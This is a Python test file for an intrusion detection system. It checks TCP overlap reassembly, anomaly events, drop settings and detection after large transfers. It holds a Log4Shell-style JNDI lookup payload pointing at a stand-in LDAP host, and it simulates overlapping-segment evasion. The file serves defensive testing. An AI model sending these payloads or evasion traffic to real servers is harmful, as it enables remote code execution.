"""What is found in one version of a connection is found in the connection, once."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import pytest
from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether

from ids.testing import Session
from plugins.rules import Rules
from tests.shared import event_validator

DECOY, EXPLOIT = b"GET /index.html?q=12345678901 HTTP/1.1\r\n", b"GET /${jndi:ldap://192.0.2.9} HTTP/1.1\r\n"
REST = b"Host: www.example.org\r\n\r\n"
ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
SID = 1000081

assert len(DECOY) == len(EXPLOIT)


class Wire:
    """A connection, frame by frame."""

    def __init__(self, *settings: str) -> None:
        self.session = Session("rules.paths=[rules/base]", *settings, rules=Rules())
        self.send("S", 999, 0)
        self.answer("SA", 4999, 1000)
        self.send("A", 1000, 5000)

    def send(self, flags: str, seq: int, ack: int, data: bytes = b"", **fields: Any) -> None:
        header = TCP(sport=40000, dport=80, flags=flags, seq=seq, ack=ack, **fields)
        self.session.frames(bytes(Ether() / IP(src="192.0.2.1", dst="203.0.113.1") / header / data))

    def answer(self, flags: str, seq: int, ack: int, data: bytes = b"") -> None:
        header = TCP(sport=80, dport=40000, flags=flags, seq=seq, ack=ack)
        self.session.frames(bytes(Ether() / IP(src="203.0.113.1", dst="192.0.2.1") / header / data))

    def say(self, *copies: bytes) -> None:
        """Say copies of the first line, the rest, and hear the answer."""
        for copy in copies:
            self.send("PA", 1000, 5000, copy)
        self.send("PA", 1000 + len(DECOY), 5000, REST)
        self.answer("PA", 5000, 1000 + len(DECOY + REST), ANSWER)

    def events(self, event_type: str) -> list[dict[str, Any]]:
        self.session.end()
        return [event for event in self.session.events if event["event_type"] == event_type]


@pytest.mark.parametrize("copies", [(DECOY, EXPLOIT), (EXPLOIT, DECOY), (EXPLOIT, DECOY, EXPLOIT)])
def test_either_copy_is_found_once_and_as_the_connections(copies: Sequence[bytes]) -> None:
    wire = Wire()
    wire.say(*copies)
    assert wire.session.sids == [SID]
    (alert,), (flow,), (http,) = wire.events("alert"), wire.events("flow"), wire.events("http")
    assert alert["flow_id"] == flow["flow_id"] == http["flow_id"]
    assert flow["flow"]["alerted"]
    assert (alert["src_ip"], alert["direction"]) == ("192.0.2.1", "to_server")


def test_a_conflict_is_written_as_an_anomaly() -> None:
    wire = Wire()
    wire.say(DECOY, EXPLOIT)
    (anomaly,) = (event for event in wire.events("anomaly") if event["anomaly"]["type"] == "stream")
    assert anomaly["anomaly"]["event"] == "stream.reassembly_overlap_different_data"
    assert anomaly["src_ip"] == "192.0.2.1"
    event_validator().validate(anomaly)


def test_a_conflict_drops_the_flow_only_where_settings_say_so() -> None:
    benign = b"GET /index.html?q=abcdefghijk HTTP/1.1\r\n"
    kept = Wire()
    kept.say(DECOY, benign)
    assert kept.session.sids == []
    dropped = Wire("stream.on_conflict=drop")
    dropped.say(DECOY, benign)
    (alert,), (flow,) = dropped.events("alert"), dropped.events("flow")
    assert (alert["alert"]["gid"], alert["alert"]["signature_id"], alert["alert"]["action"]) == (20, 1, "blocked")
    assert flow["flow"]["action"] == "drop"


def test_repeated_requests_of_a_connection_that_is_not_in_doubt_alert_each() -> None:
    wire = Wire()
    for at in range(2):
        size = len(EXPLOIT + REST)
        wire.send("PA", 1000 + at * size, 5000, EXPLOIT + REST)
    assert wire.session.sids == [SID, SID]


def test_data_of_who_guesses_numbers_accuses_nobody() -> None:
    wire = Wire()
    for guess in range(64):
        wire.send("PA", 1000, (5000 + 70_000 + guess * (1 << 25)) & 0xFFFFFFFF, EXPLOIT + REST)
    wire.say(DECOY)
    assert wire.session.sids == []


def test_an_exploit_behind_a_megabyte_on_the_same_connection_is_found() -> None:
    wire = Wire()
    size, at = 1_200_000, 1000
    head = b"POST /upload HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: %d\r\n\r\n" % size
    for begin in range(0, size, 60_000):
        data = (head if not begin else b"") + b"x" * 60_000
        wire.send("PA", at, 5000, data)
        at += len(data)
        wire.answer("A", 5000, at)
    wire.send("PA", at, 5000, EXPLOIT + REST)
    assert wire.session.sids == [SID]


@pytest.mark.parametrize("header", [b"X-One: 1234", b"Host: a.org"])
def test_what_is_odd_in_several_versions_is_said_once_of_the_connection(header: bytes) -> None:
    wire = Wire()
    start = b"GET /a HTTP/1.1\r\n"
    for one in (header, b"X-Two: 5678"):
        wire.send("PA", 1000 + len(start), 5000, one + b"\r\n\r\n")
    wire.send("PA", 1000, 5000, start)
    wire.answer("PA", 5000, 1000 + len(start + header) + 4, ANSWER)
    odd = [event for event in wire.events("anomaly") if event["anomaly"]["event"] == "MISSING_HOST_HEADER"]
    (flow,) = wire.events("flow")
    assert [event["flow_id"] for event in odd] == [flow["flow_id"]]
